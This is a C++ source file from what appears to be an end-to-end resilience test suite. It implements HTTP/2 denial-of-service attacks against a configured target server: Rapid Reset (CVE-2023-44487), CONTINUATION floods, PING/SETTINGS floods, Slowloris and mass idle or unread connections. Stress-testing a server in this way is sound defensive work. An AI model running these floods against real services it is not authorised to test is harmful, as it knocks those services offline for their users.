#include "tests/e2e/flood/attacks.h"

#include <thread>
#include <vector>

namespace signet::flood {
namespace {

using std::chrono::milliseconds;
using std::chrono::steady_clock;
using TimePoint = steady_clock::time_point;

constexpr milliseconds kPatience{500};

/// Begin opens a connection and says hello, as any client would.
std::unique_ptr<Connection> Begin(const Target& target, Figures* figures, bool acknowledge = true) {
  auto connection = Connection::Open(target, milliseconds(3000));
  const std::string hello = Preface() + (acknowledge ? Frame(kSettings, kAck, 0, "") : "");
  if (connection == nullptr || !connection->Send(hello, kPatience)) {
    ++figures->refused;
    return nullptr;
  }
  ++figures->connections;
  return connection;
}

/// Repeat sends what `next` makes until `limit` units are out (and half of the time has passed, so
/// that there is something to measure) or `end` has come; when the server hangs up it calls again,
/// as an attacker would.
Figures Repeat(const Target& target, TimePoint end, std::uint64_t limit,
               const std::function<std::string(std::uint32_t turn, std::uint64_t* units)>& next) {
  Figures figures;
  const TimePoint half = steady_clock::now() + (end - steady_clock::now()) / 2;
  const auto more = [&] {
    const TimePoint now = steady_clock::now();
    return now < half || (figures.sent < limit && now < end);
  };
  while (more()) {
    auto connection = Begin(target, &figures);
    if (connection == nullptr) {
      std::this_thread::sleep_for(milliseconds(20));
      continue;
    }
    for (std::uint32_t turn = 0; more(); ++turn) {
      std::uint64_t units = 0;
      const std::string bytes = next(turn, &units);
      std::string ignored;
      if (!connection->Send(bytes, kPatience) || !connection->Receive(&ignored, milliseconds(0))) {
        ++figures.cut;
        break;
      }
      figures.sent += units;
    }
  }
  return figures;
}

/// CVE-2023-44487: streams that are reset as soon as they are opened.
Figures RapidReset(const Target& target, TimePoint end) {
  const std::string headers = RequestHeaders(target);
  return Repeat(target, end, 200000, [&](std::uint32_t turn, std::uint64_t* units) {
    std::string bytes;
    for (std::uint32_t i = 0; i < 50; ++i) {
      const std::uint32_t stream = 2 * (turn * 50 + i) + 1;
      bytes += Frame(kHeaders, kEndHeaders, stream, headers) + Reset(stream);
    }
    *units = 50;
    return bytes;
  });
}

/// One header block of 64 MB that never ends.
Figures Continuation(const Target& target, TimePoint end) {
  const std::string field = HeaderField("x-filler", std::string(110, 'a'));
  std::string block;
  while (block.size() + field.size() <= 16384) {
    block += field;
  }
  return Repeat(target, end, 64u << 20, [&](std::uint32_t turn, std::uint64_t* units) {
    *units = block.size();
    return turn == 0
               ? Frame(kHeaders, 0, 1, RequestHeaders(target)) + Frame(kContinuation, 0, 1, block)
               : Frame(kContinuation, 0, 1, block);
  });
}

/// PING and SETTINGS at 200 kB a second; each asks for an answer that is never read.
Figures PingSettings(const Target& target, TimePoint end) {
  std::string burst;
  while (burst.size() < 10000) {
    burst += Frame(kPing, 0, 0, "12345678") + Frame(kSettings, 0, 0, "");
  }
  Figures figures;
  while (steady_clock::now() < end) {
    auto connection = Begin(target, &figures);
    while (connection != nullptr && connection->Send(burst, kPatience) &&
           steady_clock::now() < end) {
      figures.sent += burst.size();
      std::this_thread::sleep_for(milliseconds(50));
    }
    figures.cut += connection != nullptr && steady_clock::now() < end;
    std::this_thread::sleep_for(milliseconds(5));
  }
  return figures;
}

/// Hold keeps connections open until `end`, doing `each` to every one of them once a second, and
/// counts who is gone.
void Hold(std::vector<std::unique_ptr<Connection>>* connections, TimePoint end, Figures* figures,
          const std::function<bool(Connection*)>& each) {
  while (true) {
    for (auto& connection : *connections) {
      if (connection != nullptr && !each(connection.get())) {
        connection.reset();
        ++figures->cut;
      }
    }
    if (steady_clock::now() >= end) {
      return;
    }
    std::this_thread::sleep_for(std::min(
        milliseconds(1000),
        std::chrono::duration_cast<milliseconds>(end - steady_clock::now() + milliseconds(1))));
  }
}

bool StillOpen(Connection* connection) {
  std::string ignored;
  return connection->Receive(&ignored, milliseconds(0));
}

/// 100 connections that never acknowledge SETTINGS, and send 80 kB of headers meanwhile: limits
/// that were announced in SETTINGS must hold before they are acknowledged.
Figures NeverAck(const Target& target, TimePoint end) {
  Figures figures;
  std::vector<std::unique_ptr<Connection>> connections;
  const std::string field = HeaderField("x-filler", std::string(110, 'a'));
  std::string block = RequestHeaders(target);
  while (block.size() + field.size() <= 16384) {
    block += field;
  }
  for (int i = 0; i < 100 && steady_clock::now() < end; ++i) {
    auto connection = Begin(target, &figures, false);
    if (connection == nullptr) {
      continue;
    }
    std::string bytes = Frame(kHeaders, kEndStream, 1, block);
    for (int more = 0; more < 4; ++more) {
      bytes += Frame(kContinuation, more == 3 ? kEndHeaders : 0, 1,
                     block.substr(block.find("x-filler") - 2));
    }
    figures.sent += connection->Send(bytes, kPatience) ? bytes.size() : 0;
    connections.push_back(std::move(connection));
  }
  Hold(&connections, end, &figures, StillOpen);
  return figures;
}

/// 10,000 connections that say hello and nothing more.
Figures Idle(const Target& target, TimePoint end) {
  Figures figures;
  std::vector<std::unique_ptr<Connection>> connections;
  for (int i = 0; i < 10000 && steady_clock::now() < end; ++i) {
    if (auto connection = Begin(target, &figures)) {
      connections.push_back(std::move(connection));
      ++figures.sent;
    }
  }
  Hold(&connections, end, &figures, StillOpen);
  return figures;
}

/// 500 connections, each with a header block that grows by one byte a second.
Figures SlowLoris(const Target& target, TimePoint end) {
  Figures figures;
  std::vector<std::unique_ptr<Connection>> connections;
  const std::string drip = Frame(kHeaders, kEndHeaders, 1, RequestHeaders(target));
  for (int i = 0; i < 500 && steady_clock::now() < end; ++i) {
    if (auto connection = Begin(target, &figures)) {
      connections.push_back(std::move(connection));
    }
  }
  std::size_t calls = 0;
  Hold(&connections, end, &figures, [&](Connection* connection) {
    const std::size_t at = calls++ / 500 % drip.size();
    ++figures.sent;
    return connection->Send(drip.substr(at, 1), kPatience) && StillOpen(connection);
  });
  return figures;
}

/// 1,000 streams with answers that nobody reads, 100 a connection.
Figures Unread(const Target& target, TimePoint end, std::string_view message) {
  Figures figures;
  std::vector<std::unique_ptr<Connection>> connections;
  for (int i = 0; i < 10; ++i) {
    auto connection = Begin(target, &figures);
    if (connection == nullptr) {
      continue;
    }
    std::string bytes = WindowUpdate();
    for (std::uint32_t stream = 1; stream < 200; stream += 2) {
      bytes += Call(target, stream, message);
    }
    figures.sent += connection->Send(bytes, kPatience) ? 100 : 0;
    connections.push_back(std::move(connection));
  }
  Hold(&connections, end, &figures, [](Connection*) { return true; });
  return figures;
}

/// A StreamingOutputCallRequest for 20 answers of 100 kB each: field 2 (response_parameters) with
/// size = 100000.
std::string WantMuch() {
  std::string message;
  for (int i = 0; i < 20; ++i) {
    message += std::string("\x12\x04\x08\xa0\x8d\x06", 6);
  }
  return message;
}

}  // namespace

const std::map<std::string, Attack>& Attacks() {
  static const std::map<std::string, Attack> attacks = {
      {"rapid_reset", RapidReset},
      {"continuation", Continuation},
      {"never_ack", NeverAck},
      {"idle", Idle},
      {"slow_loris", SlowLoris},
      {"ping_settings", PingSettings},
      {"unread",
       [](const Target& target, TimePoint end) { return Unread(target, end, WantMuch()); }},
  };
  return attacks;
}

}  // namespace signet::flood
